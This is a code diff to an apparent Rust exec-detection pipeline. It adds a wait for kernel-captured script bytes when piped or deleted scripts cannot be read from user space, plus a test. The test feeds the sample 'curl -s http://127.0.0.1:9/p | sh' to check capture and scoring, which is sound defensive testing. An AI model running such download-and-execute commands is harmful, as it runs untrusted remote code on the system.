@@ -17,7 +17,7 @@ use lru::LruCache;
 use tokio::sync::{mpsc, Semaphore};
 use tokio::task::JoinHandle;
 
-use crate::detection::{Detection, Enrichment, Verdict};
+use crate::detection::{ContentOrigin, Detection, Enrichment, Verdict};
 use crate::enrich::{missing_label, Enricher};
 use crate::event::ExecEvent;
 use crate::metrics::Metrics;
@@ -134,6 +134,9 @@ pub struct PipelineOptions {
     pub finding_queue: usize,
     /// Scored -> trace recorder. Full means drop (counted as `trace`).
     pub trace_queue: usize,
+    /// How long to wait for kernel-captured script bytes when the script
+    /// could not be read from user space (piped, deleted, memfd).
+    pub content_wait: Duration,
 }
 
 impl Default for PipelineOptions {
@@ -143,6 +146,7 @@ impl Default for PipelineOptions {
             workers: 8,
             finding_queue: 1024,
             trace_queue: 8192,
+            content_wait: crate::kernel_content::DEFAULT_WAIT,
         }
     }
 }
@@ -151,7 +155,9 @@ impl Default for PipelineOptions {
 #[derive(Debug, Clone)]
 pub struct CapturedExec {
     pub event: ExecEvent,
-    pub kernel_content: Option<Vec<u8>>,
+    /// What the kernel copies of this process's script reads, as it arrives
+    /// (`ContentStore::exec`); None when content capture is off.
+    pub kernel_content: Option<Arc<crate::kernel_content::Capture>>,
 }
 
 /// Capture's handle on the pipeline. Dropping every clone ends the run.
@@ -225,6 +231,7 @@ impl Pipeline {
             mpsc::channel::<JoinHandle<Detection>>(opts.workers.max(1) * 2);
         let (mut pipeline, detections) = Self::start_outputs(outputs, metrics.clone(), opts);
         let workers = Arc::new(Semaphore::new(opts.workers.max(1)));
+        let content_wait = opts.content_wait;
         let dispatch_metrics = metrics.clone();
         let (stop_tx, mut stop_rx) = tokio::sync::watch::channel(false);
         pipeline.stop = Some(stop_tx);
@@ -253,10 +260,15 @@ impl Pipeline {
                 let enricher = enricher.clone();
                 let score = score.clone();
                 let metrics = dispatch_metrics.clone();
-                let handle = tokio::task::spawn_blocking(move || {
-                    let _permit = permit;
-                    process_one(&enricher, &score, &metrics, exec)
-                });
+                let content_wait = content_wait;
+                let handle = tokio::spawn(process_one(
+                    enricher,
+                    score,
+                    metrics,
+                    exec,
+                    permit,
+                    content_wait,
+                ));
                 if ordered_tx.send(handle).await.is_err() {
                     break;
                 }
@@ -413,21 +425,51 @@ impl Pipeline {
     }
 }
 
-/// Enrich and score one exec (on a blocking worker).
-fn process_one(
-    enricher: &Enricher,
-    score: &ScoreStage,
-    metrics: &Metrics,
+/// Enrich (on a blocking worker, holding a worker permit), wait for
+/// kernel-captured bytes if the script could not be read (holding no
+/// permit), then score.
+async fn process_one(
+    enricher: Enricher,
+    score: Arc<ScoreStage>,
+    metrics: Metrics,
     exec: CapturedExec,
+    permit: tokio::sync::OwnedSemaphorePermit,
+    content_wait: Duration,
 ) -> Detection {
-    let (enrichment, stats) = enricher.enrich(&exec.event, exec.kernel_content.as_deref());
+    let CapturedExec {
+        event,
+        kernel_content,
+    } = exec;
+    let enrich = {
+        let enricher = enricher.clone();
+        tokio::task::spawn_blocking(move || {
+            let (enrichment, stats) = enricher.enrich(&event, None);
+            (event, enrichment, stats)
+        })
+    };
+    let (event, mut enrichment, stats) = enrich.await.expect("enrichment does not panic");
+    drop(permit);
     if stats.content_cache_hit {
         metrics.cache_hit("content");
     }
-    let verdict = score.judge(&exec.event, &enrichment);
-    let detection_latency_us = boot_time_ns().saturating_sub(exec.event.ktime_ns) / 1000;
+    if let Some(capture) = kernel_content {
+        if enrichment.content_origin == ContentOrigin::Missing {
+            let got = capture
+                .wait(tokio::time::Instant::now() + content_wait)
+                .await;
+            if !got.bytes.is_empty() {
+                enricher.apply_kernel_content(&event, &mut enrichment, &got.bytes);
+            }
+        }
+    }
+    let judged = tokio::task::spawn_blocking(move || {
+        let verdict = score.judge(&event, &enrichment);
+        (event, enrichment, verdict)
+    });
+    let (event, enrichment, verdict) = judged.await.expect("scoring does not panic");
+    let detection_latency_us = boot_time_ns().saturating_sub(event.ktime_ns) / 1000;
     Detection {
-        event: exec.event,
+        event,
         enrichment,
         verdict,
         detection_latency_us,
@@ -636,6 +678,72 @@ mod tests {
         assert_eq!(s.findings, 20);
         // 2 distinct texts, 200 scorings: 198 from the cache.
         assert_eq!(s.cache_hits.get("score"), Some(&198));
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn piped_scripts_are_scored_from_kernel_captured_bytes() {
+        use crate::event::{StdinInfo, StdinKind};
+        use crate::kernel_content::ContentStore;
+        let metrics = Metrics::new();
+        let found = Arc::new(Mutex::new(Vec::new()));
+        let records = Arc::new(Mutex::new(Vec::new()));
+        let enricher = Enricher::new(EnrichConfig {
+            hostname: Some("t".into()),
+            ..Default::default()
+        });
+        let score = Arc::new(ScoreStage::new(
+            Arc::new(PlaceholderScorer),
+            metrics.clone(),
+        ));
+        let (pipeline, input) = Pipeline::start_live(
+            enricher,
+            score,
+            Outputs {
+                findings: Arc::new(PidFinding),
+                sink: Box::new(CollectSink(found.clone())),
+                recorder: Some(Box::new(CollectRecords(records.clone()))),
+            },
+            metrics.clone(),
+            &PipelineOptions {
+                // Long enough never to be what ends the wait here: exit does.
+                content_wait: Duration::from_secs(3600),
+                ..Default::default()
+            },
+        );
+        let store = ContentStore::new(65536);
+        let me = std::process::id();
+        let mut ev = event(me, "/bin/bash", "");
+        ev.argv = vec!["bash".into()];
+        ev.script = Script::Stdin {
+            stdin: StdinInfo {
+                kind: StdinKind::Pipe,
+                path: None,
+                inode: None,
+            },
+        };
+        // As capture would: register the exec, hand it over, then the reads arrive.
+        let capture = store.exec(me);
+        assert!(input.offer(CapturedExec {
+            event: ev,
+            kernel_content: Some(capture),
+        }));
+        store.content(me, 0, b"curl -s http://127.0.0.1:9/p", false);
+        store.content(me, 28, b" | sh\n", false);
+        store.exit(me);
+        drop(input);
+        pipeline.finish().await.unwrap();
+        assert_eq!(found.lock().unwrap().len(), 1);
+        let records = records.lock().unwrap();
+        let Record::Exec(rec) = &records[0] else {
+            panic!("not an exec record")
+        };
+        assert_eq!(rec.enrichment.content_origin, ContentOrigin::KernelCapture);
+        assert_eq!(rec.enrichment.missing_reason, None);
+        assert_eq!(
+            rec.enrichment.script.as_ref().unwrap().contents.as_deref(),
+            Some("curl -s http://127.0.0.1:9/p | sh\n")
+        );
+        assert!(metrics.summary().contents_missing.is_empty());
     }
 
     #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
